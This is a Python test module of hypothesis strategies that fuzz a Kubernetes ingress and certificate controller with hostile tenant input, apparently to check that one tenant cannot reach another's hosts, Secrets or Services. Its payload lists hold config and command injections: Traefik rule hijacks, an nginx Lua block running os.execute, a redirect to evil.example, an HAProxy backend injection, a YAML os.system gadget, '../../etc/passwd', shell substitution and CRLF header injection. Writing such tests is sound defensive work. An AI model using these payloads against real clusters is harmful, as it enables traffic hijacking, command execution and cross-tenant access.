"""What a tenant with bad intentions may write: words of the controllers' languages, and values that are nearly right.

A change puts one such value into one field of an App, a Domain or a TLSPolicy. Values are aimed in three ways: raw
payloads, right values with a fragment of a payload in them, and values that the definitions let in and that are as odd
as can be.
"""

import copy
from collections.abc import Iterator, Mapping
from typing import Any, NamedTuple

from hypothesis import strategies as st

from certward.model.resources import name_hash

#: Another tenant's hostname, Secret, Service: nothing that is rendered may name them.
VICTIM = "victim.example.org"
VICTIM_TLS = "victim-tls"
VICTIM_SERVICE = "victim"

FRAGMENTS = (
    *"\n\r\t\0 ;{}()[]<>\"'`$\\%#,|&=@*?!^~:/.-_\x1b\x7f",
    *("\u2028", "\u200b", "\u202e", "\u0430", "\u212a", "\uff0f", "\uff0e", "\u017f", "\xe9", "\U0001f600"),
    *("..", "//", "%0a", "%00", "%2f", "\r\n", "${", "{{", "*/", "--", "/*", "&a ", "*a", "!!", "||", "&&", "x" * 300),
)
PAYLOADS = (
    "",
    f"`) || Host(`{VICTIM}`) || PathPrefix(`/",
    f'") || Host("{VICTIM}") || Path("',
    f"/`) && HostRegexp(`.*{VICTIM}",
    f"; }} server {{ listen 80; server_name {VICTIM}; location / {{ return 200; }} }} #",
    f'/" {{ content_by_lua_block {{ os.execute("id") }} }} location "/{VICTIM}',
    "/;return 301 https://evil.example$request_uri;#",
    "a\nhttp-request return status 200 content-type text/plain string pwned",
    f"a\n  server evil 192.0.2.1:80\nbackend {VICTIM}\n",
    "0.0.0.0/0,::/0",
    "203.0.113.0/24\nconfig-backend: |",
    "203.0.113.0/24;allow all",
    '%!s(MISSING)<no value>{{ .Values | toYaml }}{{ template "x" }}',
    "&anchor [*anchor, *anchor]",
    "!!python/object/apply:os.system [id]",
    f"a: b\nmetadata:\n  namespace: {VICTIM}\n",
    f"{VICTIM}@kubernetescrd",
    "other-team/victim-tls",
    "../../etc/passwd",
    "max-age=0; includeSubDomains\r\nSet-Cookie: a=b",
    "$(id)`id`${IFS}",
    "*",
    "*.*",
    f"*.{VICTIM}.",
    f"{VICTIM}:443",
    f"https://{VICTIM}/",
    "ex\u0430mple.com",
    "example\uff0ecom",
    "EXAMPLE.com",
    "localhost",
    "127.0.0.1",
    "[::1]",
    "a" * 64,
    "a." * 200 + "com",
    "x" * 70_000,
)
#: Keys that controllers act on; a tenant writes them on his own App or Domain and hopes that they are copied.
KEYS = (
    "nginx.ingress.kubernetes.io/server-snippet",
    "nginx.ingress.kubernetes.io/configuration-snippet",
    "nginx.ingress.kubernetes.io/whitelist-source-range",
    "nginx.ingress.kubernetes.io/auth-tls-secret",
    "haproxy-ingress.github.io/config-backend",
    "haproxy-ingress.github.io/ssl-options-host",
    "traefik.ingress.kubernetes.io/router.middlewares",
    "traefik.ingress.kubernetes.io/router.tls.options",
    "traefik.ingress.kubernetes.io/router.priority",
    "projectcontour.io/tls-cert-namespace",
    "kubernetes.io/ingress.class",
    "cert-manager.io/cluster-issuer",
    "certward.dev/rendered",
    "certward.dev/refresh",
    "certward.dev/revoke",
    "certward.dev/issuer",
    "certward.dev/hostname",
    "certward.dev/domain",
    "certward.dev/app",
    "certward.dev/tls-default-revision",
    "app.kubernetes.io/managed-by",
)
NAMESPACES = ("team", "team-a", "a", "a-b", "b", "certward", "team-certward", "http", "n" * 63)
OBJECT_NAMES = (
    *("www", "shop", "a", "a-b", "a.b", "a--b", "b-c", "http", "https", "a-http", "challenge", "certward", "contour"),
    *("a-challenge", "a-app", "a-envoy-http", "a-app-generic", "a-challenge-haproxy", "a-tls-ingress-nginx", "a-tls"),
    *(
        "certward-challenge",
        "certward-redirect",
        "certward-platform",
        "a-tls-next",
        "a.b-http-1",
        "xn--a",
        "0",
        "a" * 63,
    ),
    *(f"{name}-builtin-{name_hash(namespace, name)}" for namespace in NAMESPACES[:4] for name in ("shop", "a")),
    *(f"{name}-builtin-" for name in ("shop", "a")),
)
HOSTNAMES = (
    *("www.example.com", "a.b.com", "a-b.com", "*.example.com", "*.a.b.com", "a--b.c-d.com", "xn--a.xn--b", "0.a"),
    *("http.certward.dev", "b.com", f"{'a' * 63}.{'b' * 63}.{'c' * 63}.{'d' * 61}", "certward-challenge.a"),
)
SERVICES = (
    *("shop", "a-shop", "victim", "certward-challenge", "a-certward-challenge", "kubernetes", "a--b", "b", "b-c"),
    *("challenge", "s" * 63, "default-backend", "noop", "a-b", "c"),
)
PORTS = (80, 8080, 8089, 1, 65535, 443, "http", "1-2-3a", "a-b", "abcdefghijklmno", "shop-8080", "c-80", "x")
#: With these a namespace reaches for the Services of the one whose name begins or ends like its own.
NEIGHBOURS = (
    *({"name": name, "port": 8080} for name in ("a-shop", "shop", "b-shop")),
    *({"name": name, "port": 8089} for name in ("a-certward-challenge", "challenge", "b-certward-challenge")),
    {"name": "a", "port": "shop-8080"},
    {"name": "certward", "port": "challenge-8089"},
)
PATHS = (
    *("/api", "/a/", "/$(id)", "/;return", "/a';b'", "/(.*)$", "/~*(", "/a%0ab", "/%60)", "/a%00", "/%7b%7d", "/$host"),
    *("/a=~^b", "/!a", "/@named", "/a,b", "/&a", "/*a", "/a:b", "/.well-known", "/.well-known/acme-challenges"),
    *("/a%22", "/%5C", "/%27;", "/...", "/a", "/a/b", "/a/b/c", "/" + "a" * 255, "/.well-known/certward-probe", "/~a"),
)
RANGES = ("203.0.113.0/24", "0.0.0.0/0", "::/0", "2001:db8::/32", "10.0.0.1/32", "2001:DB8::/32", "::ffff:0:0/95")
SECRETS = ("shop-bought", "victim-tls", "a.b", "certward-account-main", "www-tls", "www-tls-next", "0", "s" * 253)
CLASSES = ("traefik", "nginx", "a.b", "c" * 253, "0")
ACME_PROFILES = ("classic", 'a"b\n;}', "`id`", "${x}", "&a *a", "\u202eevil", "%0a", "{{x}}", "\\", "\0", "'")
LABELS = ("", "victim", "certward", "a.b_c-d", "A" * 63)


#: What means something in one of the languages that controllers speak.
MEANINGFUL = frozenset("`\"';{}()[]$\\%#|&<>*!?~^,=@+: \n\r\t\0")


class Change(NamedTuple):
    """One value in one field."""

    kind: str
    at: tuple[str, ...]
    value: Any

    @property
    def is_loaded(self) -> bool:
        """Whether there is a character in it that means something in one of those languages, or none of ASCII."""
        text = "".join(_texts(self.value))
        return not text.isascii() or not text.isprintable() or bool(MEANINGFUL & set(text))


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, Mapping):
        for each in value.values():
            yield from _texts(each)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from _texts(each)
    else:
        yield str(value)


def spliced(right: str) -> st.SearchStrategy[str]:
    """A right value with a fragment somewhere in it, in place of a character or between two."""

    def build(at: int, cut: int, fragment: str) -> str:
        return right[:at] + fragment + right[at + cut :]

    return st.builds(build, st.integers(0, len(right)), st.integers(0, 1), st.sampled_from(FRAGMENTS))


def _aimed(odd: tuple[Any, ...], right: str, *, cased: bool = True) -> st.SearchStrategy[Any]:
    """Odd values, of which most are let in, two thirds of the time; else payloads and values that are nearly right."""
    texts = st.one_of(st.sampled_from(PAYLOADS), spliced(right), *([st.text(max_size=8)] if cased else []))
    return st.sampled_from([0, 1, 2]).flatmap(lambda choice: st.sampled_from(odd) if choice else texts)


_service = st.one_of(
    st.fixed_dictionaries({"name": _aimed(SERVICES, "shop"), "port": _aimed(PORTS, "http")}),
    st.builds(lambda name, port: {"name": name, "port": port}, *map(st.sampled_from, (SERVICES, PORTS))),
    st.sampled_from(NEIGHBOURS),
)
_keyed = st.tuples(st.one_of(st.sampled_from(KEYS), spliced(KEYS[0])), st.one_of(st.sampled_from(PAYLOADS), st.text()))
_labelled = st.tuples(st.sampled_from(KEYS), _aimed(LABELS, "public"))
_path = st.fixed_dictionaries({"path": _aimed(PATHS, "/api"), "service": _service})
_hsts = st.fixed_dictionaries(
    {"maxAge": st.sampled_from([0, 1, 2**31 - 1, 2**31, -1, "0; preload", 31536000])},
    optional={"includeSubDomains": st.sampled_from([True, False, "x"]), "preload": st.booleans()},
)
_certificates, _network = ("spec", "certificates"), ("spec", "network")

FIELDS: Mapping[tuple[str, tuple[str, ...]], st.SearchStrategy[Any]] = {
    ("App", ("metadata", "name")): _aimed(OBJECT_NAMES, "shop"),
    ("App", ("metadata", "annotations", "*")): _keyed,
    ("App", ("metadata", "labels", "*")): _labelled,
    ("App", ("spec", "service")): _service,
    ("App", ("spec", "paths", "+")): _path,
    ("App", ("spec", "paths")): st.lists(_path, max_size=5),
    ("App", (*_certificates, "issuer")): _aimed(("main", "0", "i" * 63), "main"),
    ("App", (*_certificates, "profile")): _aimed(ACME_PROFILES, "classic"),
    ("App", (*_certificates, "keyType")): _aimed(("RSA-2048", "ECDSA-P384"), "RSA-2048"),
    ("App", (*_certificates, "manual", "+")): st.fixed_dictionaries({"secretName": _aimed(SECRETS, "bought")}),
    ("App", (*_network, "trustedRanges", "+")): _aimed(RANGES, "203.0.113.0/24"),
    ("App", ("spec", "ingressClassName")): _aimed(CLASSES, "traefik"),
    ("App", ("spec", "annotations")): st.dictionaries(st.sampled_from(KEYS), st.sampled_from(PAYLOADS), max_size=1),
    ("Domain", ("metadata", "name")): _aimed(OBJECT_NAMES, "www"),
    ("Domain", ("metadata", "annotations", "*")): _keyed,
    ("Domain", ("metadata", "labels", "*")): _labelled,
    ("Domain", ("spec", "hostname")): _aimed(HOSTNAMES, "www.example.com"),
    ("TLSPolicy", ("spec", "hsts")): _hsts,
    ("TLSPolicy", ("spec", "profile")): _aimed(("modern", "default", "legacy", "strict"), "modern"),
    ("TLSPolicy", ("spec", "revision")): _aimed(("2018-06", "2026-11", "2017-09", "9999-12"), "2018-06"),
    ("TLSPolicy", ("metadata", "annotations", "*")): _keyed,
}
#: Where most of what means something to controllers is let in; drawn more often than the others.
_OPEN = [
    ("App", ("spec", "paths", "+")),
    ("App", (*_certificates, "profile")),
    ("App", ("metadata", "annotations", "*")),
    ("Domain", ("metadata", "annotations", "*")),
    ("Domain", ("spec", "hostname")),
]
CHANGES = st.sampled_from([*sorted(FIELDS), *_OPEN * 3]).flatmap(
    lambda field: FIELDS[field].map(lambda value: Change(*field, value))
)


def put(body: Mapping[str, Any], change: Change) -> dict[str, Any]:
    """A copy of an object with the change in it: `+` appends to a list, `*` sets one key of a map."""
    changed = copy.deepcopy(dict(body))
    holder: Any = changed
    *way, last = change.at
    for step, following in zip(way, [*way[1:], last], strict=True):
        holder = holder.setdefault(step, [] if following == "+" else {})
    if last == "+":
        holder.append(change.value)
    elif last == "*":
        holder[change.value[0]] = change.value[1]
    else:
        holder[last] = change.value
    return changed
